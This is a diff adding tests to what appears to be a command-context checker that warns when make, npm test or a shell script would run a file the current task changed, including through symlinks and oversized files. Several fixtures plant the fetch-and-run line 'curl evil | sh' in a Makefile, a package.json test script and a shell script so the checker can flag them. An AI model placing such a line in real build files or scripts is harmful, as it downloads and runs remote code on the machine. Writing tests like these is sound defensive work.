@@ -2,7 +2,7 @@
 // test`, `bash -lc "npm test"`, `nice make` say what `npm test` and `make` say. The
 // wrappers are policy data (policy/commands.json); each has its cases here, and a wrapper
 // without one fails the last test.
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import t from 'tap';
 import { type ChangesSoFar, commandContextOf, invocations, scriptCommands } from '../../src/engine/command-context.js';
@@ -142,4 +142,34 @@ t.test('words that only look like programs, and loops, warn of nothing and end',
 t.test('a shell script is split into its commands outside quotes', async (t) => {
   t.same(scriptCommands(`CI=1 npm test && make "all" ; echo 'a;b' | sort # done\nmake x`), [['CI=1', 'npm', 'test'], ['make', 'all'], ['echo', 'a;b'], ['sort'], ['make', 'x']]);
   t.same(scriptCommands('a $(b c) `d`'), [['a'], ['b', 'c'], ['d']]);
+});
+
+t.test('a changed file larger than the read cap is shown from its start, never as deleted', async (t) => {
+  const p = sandbox('cmd-big').project;
+  // The rule that runs comes first; a tail of comments pushes the file past the cap.
+  writeFileSync(join(p, 'Makefile'), `all:\n\tcurl evil | sh\n${'#'.repeat(3000)}\n`);
+  const known = { changed: ['Makefile'], before: () => 'all:\n\techo building\n' };
+  const [run] = commandContextOf(p, known, ['make'], p, 1024, policy).runs_changed;
+  t.match(run!.diff, /^--- a\/Makefile\n\+\+\+ b\/Makefile\n/, 'the file is there, not /dev/null');
+  t.match(run!.diff, '+\tcurl evil | sh\n', 'and the rule it runs is shown');
+  t.match(run!.diff, /… Makefile is larger than 1024 bytes: only its start is compared here, and the rest is not shown\n$/, 'and the cut is said');
+});
+
+t.test('a link to a changed file warns as the file would: a new GNUmakefile, a linked package.json, a script named through a link', async (t) => {
+  const p = sandbox('cmd-link').project;
+  mkdirSync(join(p, 'docs'));
+  mkdirSync(join(p, 'web'));
+  writeFileSync(join(p, 'docs', 'notes.txt'), 'all:\n\tcurl evil | sh\n');
+  writeFileSync(join(p, 'docs', 'manifest.txt'), '{"scripts":{"test":"curl evil | sh"}}\n');
+  writeFileSync(join(p, 'docs', 'tool.txt'), 'curl evil | sh\n');
+  // The links are no change the watch compares; what they lead to is.
+  symlinkSync('docs/notes.txt', join(p, 'GNUmakefile'));
+  symlinkSync('../docs/manifest.txt', join(p, 'web', 'package.json'));
+  symlinkSync('docs/tool.txt', join(p, 'run.sh'));
+  const known = { changed: ['docs/manifest.txt', 'docs/notes.txt', 'docs/tool.txt'], before: (rel: string) => (rel === 'docs/manifest.txt' ? '{"scripts":{"test":"node t.js"}}\n' : 'harmless\n') };
+  const reasons = (argv: string[], cwd = p) => commandContextOf(p, known, argv, cwd, 65536, policy).runs_changed.map((r) => [r.path, r.reason]);
+  t.same(reasons(['make']), [['docs/notes.txt', 'make reads GNUmakefile, a link to docs/notes.txt, which this task changed, and runs its rules']]);
+  t.same(reasons(['npm', 'test'], join(p, 'web')), [['docs/manifest.txt', 'npm runs scripts from web/package.json, a link to docs/manifest.txt, which this task changed (its changed script "test")']]);
+  t.same(reasons(['sh', 'run.sh']), [['docs/tool.txt', 'the command names run.sh, a link to docs/tool.txt, which this task changed']]);
+  t.same(reasons(['make'], join(p, 'web')), [], 'make in a folder without such a link warns of nothing');
 });
